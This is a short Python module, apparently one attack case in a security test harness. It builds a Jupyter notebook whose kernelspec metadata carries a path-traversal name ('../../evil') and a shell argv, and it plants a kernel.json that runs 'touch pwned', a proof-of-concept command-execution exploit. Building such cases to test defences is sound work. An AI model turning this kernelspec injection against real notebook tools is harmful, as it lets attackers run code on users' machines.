from attacks.desks import AttackDesk


def hand_in(desk: AttackDesk) -> None:
    spec = {"name": "../../evil", "display_name": "x", "language": "bash", "argv": ["/bin/sh", "-c", "touch pwned"]}
    (desk.folder / "evil").mkdir()
    (desk.folder / "evil" / "kernel.json").write_text('{"argv": ["touch", "pwned"], "display_name": "x"}')
    desk.notebook_json["metadata"] |= {"kernelspec": spec, "language_info": {"name": "bash"}, "nbconvert": {}}
    desk.save()
